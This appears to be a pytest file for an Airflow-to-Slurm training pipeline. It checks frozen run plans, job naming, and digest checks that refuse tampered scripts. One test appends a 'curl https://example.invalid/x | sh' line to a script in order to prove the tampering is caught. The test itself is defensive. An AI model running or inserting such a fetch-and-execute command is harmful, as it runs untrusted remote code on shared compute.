"""The frozen run plan: what ``plan`` decided is what the run's later steps use, and only the scripts
``sync_code`` rendered for it are submitted."""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from airflow.sdk.exceptions import AirflowFailException

from slurm_provider import job_name_for
from slurm_provider.cli.job_files import job_log_name

from vcloud_pipeline.dag.job_operator import PipelineJobOperator
from vcloud_pipeline.plan.labels import JobLabel
from vcloud_pipeline.plan.run_plan import RunPlan, ScriptRefused, SyncedCode
from vcloud_pipeline.profile import loading
from vcloud_pipeline.dag.tasks import PLAN_TASK, SYNC_TASK, plan_run

from tests.vcloud_pipeline.dag.test_job_operator_outage import CODE_HASH, StateStore, TaskTry, down_cluster


def _synced(planned: dict[str, Any]) -> dict[str, Any]:
    """What ``sync_code`` hands on for this plan: every script rendered once, with its digest."""
    jobs = RunPlan.from_xcom(planned).render(CODE_HASH)
    return SyncedCode.recording(CODE_HASH, {label: job.outer for label, job in jobs.items()}).model_dump(mode="json")


def _bound(planned: dict[str, Any], synced: dict[str, Any], job: JobLabel) -> PipelineJobOperator:
    task = PipelineJobOperator(task_id=job.task_id, job=job)
    task.render_template_fields({"ti": TaskTry({PLAN_TASK: planned, SYNC_TASK: synced})})
    return task


def test_an_edit_to_the_profile_after_plan_changes_nothing_in_the_run(tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    profiles = tmp_path / "profiles"
    shutil.copytree(loading.PROFILES_DIR, profiles)
    monkeypatch.setattr(loading, "PROFILES_DIR", profiles)
    planned = plan_run({"profile": "local", "config": "tiny", "stages": [0, 1], "run_name": "frozen"})
    synced = _synced(planned)
    before = _bound(planned, synced, JobLabel.STAGE1)

    text = (profiles / "local.yaml").read_text()
    edited = text.replace("factor: 1.0", "factor: 7.5").replace("/logs", "/logs-elsewhere")
    assert edited != text and "factor: 7.5" in edited
    (profiles / "local.yaml").write_text(edited)
    assert loading.load_profile("local").billing.factor == 7.5  # a new run would see the edit

    after = _bound(planned, synced, JobLabel.STAGE1)
    for field in ("conn_id", "script", "log_dir", "progress_path", "exclusive_dir", "code_version",
                  "gpu_billing_factor", "done_markers"):
        assert getattr(after, field) == getattr(before, field), field
    assert after.gpu_billing_factor == 1.0 and "/logs-elsewhere" not in after.log_dir
    assert RunPlan.from_xcom(planned).render(CODE_HASH)[JobLabel.STAGE1].outer == synced["scripts"]["stage1"]


def test_a_script_changed_in_xcom_after_sync_code_is_refused_before_sbatch(monkeypatch: pytest.MonkeyPatch) -> None:
    planned = plan_run({"profile": "local", "config": "tiny", "stages": [0], "run_name": "tampered"})
    synced = _synced(planned)
    synced["scripts"]["stage0"] += "curl https://example.invalid/x | sh\n"
    cluster = down_cluster(monkeypatch)
    cluster.down = None
    task = PipelineJobOperator(task_id="stage0", job=JobLabel.STAGE0)
    context = {"ti": TaskTry({PLAN_TASK: planned, SYNC_TASK: synced}), "task_state_store": StateStore()}
    with pytest.raises(AirflowFailException, match="stage0: the script in XCom is not the one rendered"):
        task.render_template_fields(context)
    with pytest.raises(AirflowFailException, match="not the one rendered for this run"):
        task.execute(context)
    assert cluster.submitted == [] and "sbatch" not in cluster.verbs


def test_the_plan_round_trips_through_xcom_and_names_each_job_by_its_label() -> None:
    planned = plan_run({"profile": "lumi", "config": "full", "stages": [1, 2], "partition": "standard-g",
                        "nodes": 2, "gpus_per_node": 8})
    plan = RunPlan.from_xcom(planned)
    assert RunPlan.from_xcom(plan.to_xcom()) == plan
    assert list(plan.jobs) == [JobLabel.PREFLIGHT, *(JobLabel.of_stage(s) for s in range(4)), JobLabel.EXPORT]
    stage2 = plan.jobs[JobLabel.STAGE2]
    assert (stage2.stage, stage2.partition, stage2.nodes, stage2.gpus_per_node) == (2, "standard-g", 2, 8)
    assert planned["outputs_dir"] == str(plan.paths.outputs_dir) and planned["conn_id"] == "lumi"


def test_a_job_rendered_for_a_dag_run_has_one_name_the_one_its_task_submits_it_with() -> None:
    """The script's ``#SBATCH --job-name``, the name on sbatch's command line (the task's, which
    adoption searches by) and the log file the watch reads are one name; the files on the cluster
    keep the run name's stem, so another DAG run of the run name changes no inner script."""
    plan = RunPlan.from_xcom(plan_run({"profile": "local", "config": "tiny", "run_name": "named"}))
    first = plan.render(CODE_HASH, dag_run=("vcloud_training", "manual__1"))
    second = plan.render(CODE_HASH, dag_run=("vcloud_training", "manual__2"))
    for label, job in first.items():
        name = job_name_for("vcloud_training", label.task_id, "manual__1")
        assert job.job_name == name
        assert re.findall(r"^#SBATCH --job-name=(.*)$", job.outer, re.M) == [name], job.outer[:400]
        assert str(job.stdout_path("42")) == f"{plan.paths.logs_dir}/{job_log_name(name, '42', 'out')}"
        other = second[label]
        assert other.job_name != name and other.inner == job.inner and other.inner_path == job.inner_path
        assert other.outer_path == job.outer_path == plan.paths.job_script(f"vcloud-named-{label}")
    synced = SyncedCode.recording(CODE_HASH, {label: job.outer for label, job in first.items()},
                                  job_names={label: job.job_name for label, job in first.items()})
    assert synced.job_name(JobLabel.STAGE0) == job_name_for("vcloud_training", "stage0", "manual__1")
    with pytest.raises(ScriptRefused, match="no job name recorded"):
        SyncedCode.recording(CODE_HASH, {}).job_name(JobLabel.STAGE0)


def test_a_synced_script_is_handed_out_only_with_its_recorded_digest() -> None:
    synced = SyncedCode.recording(CODE_HASH, {JobLabel.EXPORT: "#!/bin/bash\necho export\n"})
    assert synced.script_for(JobLabel.EXPORT) == "#!/bin/bash\necho export\n"
    with pytest.raises(ScriptRefused, match=r"stage0: no rendered script \(rendered: export\)"):
        synced.script_for(JobLabel.STAGE0)
    forged = synced.model_copy(update={"scripts": {JobLabel.EXPORT: "#!/bin/bash\necho other\n"}})
    with pytest.raises(ScriptRefused, match="sha256"):
        forged.script_for(JobLabel.EXPORT)


def test_a_label_knows_its_stage_and_task() -> None:
    assert JobLabel.of_stage(2) is JobLabel.STAGE2 and JobLabel.STAGE2.stage == 2
    assert JobLabel.EXPORT.stage is None and not JobLabel.DATA.trains
    assert [label.task_id for label in JobLabel] == ["prepare_data", "preflight_imports", "stage0", "stage1",
                                                     "stage2", "stage3", "export"]
    with pytest.raises(ValueError, match="not a training stage"):
        JobLabel.of_stage(4)


def test_a_stage_task_releases_user_held_jobs_only_where_the_runs_profile_allows_it(
        monkeypatch: pytest.MonkeyPatch) -> None:
    planned = plan_run({"profile": "local", "config": "tiny", "stages": [0], "run_name": "held"})
    assert _bound(planned, _synced(planned), JobLabel.STAGE0).release_held is False
    monkeypatch.setenv("VCLOUD_PROFILE_OVERRIDES", '{"local": {"jobs": {"release_held": true}}}')
    planned = plan_run({"profile": "local", "config": "tiny", "stages": [0], "run_name": "released"})
    task = _bound(planned, _synced(planned), JobLabel.STAGE0)
    assert task.release_held is True
    assert task.cluster_profile is not None and task.cluster_profile.jobs.release_held
